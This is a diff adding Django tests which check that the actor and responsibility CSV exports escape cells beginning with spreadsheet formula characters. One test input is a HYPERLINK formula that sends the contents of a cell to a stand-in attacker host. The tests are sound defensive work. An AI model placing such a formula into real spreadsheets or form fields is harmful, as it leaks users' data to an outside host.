@@ -7,7 +7,9 @@ import json
 import pytest
 from django.urls import reverse
 
+from krokarm.actors import actions
 from krokarm.actors.models import Actor, Responsibility
+from krokarm.actors.tests.personas import person_at
 
 pytestmark = pytest.mark.django_db
 
@@ -46,3 +48,25 @@ def test_the_json_download_nests_responsibilities_services_and_networks(client):
     assert agency["responsibilities"] and agency["services"]
     region = next(a for a in document["actors"] if a["slug"] == "region-norrbotten")
     assert "rus-natverket" in region["networks"]
+
+
+FORMULA = '=HYPERLINK("https://elak.example/?"&A2;"Klicka")'
+
+
+def test_a_mandate_an_editor_wrote_like_a_formula_comes_out_of_the_actor_csv_as_text(client):
+    agency = Actor.objects.get(slug="arbetsformedlingen")
+    actions.update_profile(agency, {"mandate": FORMULA}, user=person_at("arbetsformedlingen"))
+    body = client.get(reverse("actors:download-actors-csv")).content.decode("utf-8").lstrip("\ufeff")
+    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["slug"] == "arbetsformedlingen")
+    assert row["mandate"] == "'" + FORMULA
+
+
+def test_a_responsibility_an_editor_wrote_like_a_formula_comes_out_of_the_responsibility_csv_as_text(client):
+    responsibility = Responsibility.objects.filter(actor__slug="arbetsformedlingen").order_by("pk")[0]
+    groups = {group.slug for group in responsibility.target_groups.all()}
+    editor = person_at("arbetsformedlingen")
+    actions.save_responsibility(responsibility, {"description": "+SUM(A1:A9)"}, target_groups=groups, user=editor)
+    body = client.get(reverse("actors:download-responsibilities-csv")).content.decode("utf-8").lstrip("\ufeff")
+    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["actor"] == "arbetsformedlingen"]
+    assert "'+SUM(A1:A9)" in [r["description"] for r in rows]
+    assert "+SUM(A1:A9)" not in [r["description"] for r in rows]
